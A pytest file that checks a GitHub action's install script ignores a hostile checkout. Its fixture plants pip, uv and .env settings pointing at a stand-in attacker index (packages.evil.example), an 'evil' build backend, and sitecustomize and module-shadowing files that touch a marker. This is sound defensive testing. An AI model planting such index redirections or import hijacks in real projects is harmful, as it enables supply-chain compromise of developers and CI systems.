"""The action's installation, run for real: nothing from the checkout under review steers it."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.project.pure_core import ROOT
from tests.project.test_locks import PINNED, pins
from tests.workflows.conftest import ACTION_FOLDER

LOCK = ACTION_FOLDER / "requirements.lock"
INSTALL = ACTION_FOLDER / "install.sh"
NOT_REACHED = ("No matching distribution found", "Could not find a version", "NewConnectionError")


def install(
    checkout: Path, temporary: Path, **environment: str
) -> "subprocess.CompletedProcess[str]":
    """Run the script with the checkout as the current folder."""
    return subprocess.run(
        ["bash", str(INSTALL)],
        cwd=checkout,
        env={
            **os.environ,
            "RUNNER_TEMP": str(temporary),
            "GITHUB_ACTION_PATH": str(ACTION_FOLDER),
            "CCOPS_ACTION_PYTHON": sys.executable,
            **environment,
        },
        capture_output=True,
        text=True,
        check=False,
    )


def hostile(checkout: Path, marker: Path) -> None:
    """Put everything there that an installer or an interpreter would heed."""
    checkout.mkdir()
    elsewhere = "https://packages.evil.example/simple"
    run = f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n"
    files = {
        "uv.toml": f'index-url = "{elsewhere}"\n',
        "pip.conf": f"[global]\nindex-url = {elsewhere}\n",
        "pip.ini": f"[global]\nindex-url = {elsewhere}\n",
        ".pip/pip.conf": f"[global]\nindex-url = {elsewhere}\n",
        "pyproject.toml": '[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\n',
        "setup.py": run,
        "setup.cfg": f"[easy_install]\nindex_url = {elsewhere}\n",
        "sitecustomize.py": run,
        "usercustomize.py": run,
        "ccops.py": run,
        "venv.py": run,
        "pip/__init__.py": run,
        "hatchling/__init__.py": run,
        ".env": f"PIP_INDEX_URL={elsewhere}\n",
        ".python-version": "2.7\n",
        "requirements.lock": "evil==1.0\n",
    }
    for name, text in files.items():
        (checkout / name).parent.mkdir(parents=True, exist_ok=True)
        (checkout / name).write_text(text, encoding="utf-8")


def test_a_hostile_checkout_changes_nothing(tmp_path: Path) -> None:
    """What is installed is the action's own commit, with the very versions of its lock."""
    checkout, marker = tmp_path / "checkout", tmp_path / "ran"
    hostile(checkout, marker)
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    done = install(checkout, temporary, PYTHONPATH=str(checkout), PYTHONSTARTUP="sitecustomize.py")
    if any(word in done.stderr for word in NOT_REACHED) and not os.environ.get("CI"):
        pytest.skip("pip reaches no package index that has the locked versions")
    assert done.returncode == 0, done.stdout + done.stderr
    python = temporary / "ccops-venv" / "bin" / "python"
    code = (
        "import ccops, importlib.metadata as m; print(ccops.__file__); "
        "print(*(f'{d.name.lower()}=={d.version}' for d in m.distributions()), sep=chr(10))"
    )
    told = subprocess.run(
        [str(python), "-I", "-c", code], cwd=checkout, capture_output=True, text=True, check=True
    ).stdout.splitlines()
    assert Path(told[0]).is_relative_to(temporary)
    found = dict(line.split("==") for line in told[1:])
    wanted = dict(pin[:2] for pin in PINNED.findall(LOCK.read_text(encoding="utf-8")))
    wanted |= pins("requirements-build.lock")
    strange = found.keys() - {"pip", "setuptools", "ccops"}
    assert {name.replace("_", "-"): found[name] for name in strange}.items() <= wanted.items()
    assert not marker.exists()
    assert not list(ROOT.glob("*.egg-info"))


def test_half_an_action_is_refused(tmp_path: Path) -> None:
    """A copy of the folder alone cannot install anything that is known."""
    folder = tmp_path / "a" / ".github" / "actions" / "ccops"
    folder.mkdir(parents=True)
    done = install(tmp_path, tmp_path, GITHUB_ACTION_PATH=str(folder))
    assert (done.returncode, "not a whole checkout" in done.stdout) == (1, True)


def test_the_actions_lock_agrees_with_the_others() -> None:
    """It has what users get, and the extras, in the versions that are tested; and hashes."""
    text = LOCK.read_text(encoding="utf-8")
    found = {name: version for name, version, _ in PINNED.findall(text)}
    assert found.items() >= pins("requirements.lock").items()
    assert found.keys() >= {"psycopg", "jinja2", "icalendar", "holidays"}
    tested = pins("requirements-dev.lock")
    assert {name: tested.get(name, version) for name, version in found.items()} == found
    assert text.count("--hash=sha256:") >= len(found)
    assert "://" not in text
